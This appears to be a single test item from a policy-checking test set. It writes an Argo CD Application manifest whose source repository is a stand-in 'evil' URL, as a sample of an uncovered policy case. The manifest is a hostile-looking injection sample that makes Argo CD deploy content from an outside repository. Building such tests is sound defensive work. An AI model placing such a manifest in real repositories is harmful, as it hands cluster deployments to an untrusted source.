# says: An Application has Argo CD apply another repository.
# item: 2
# reason: uncovered-policy
mkdir -p argocd; printf 'apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: { name: gb }\nspec: { source: { repoURL: https://example.org/evil, path: . } }\n' > argocd/gb.yaml
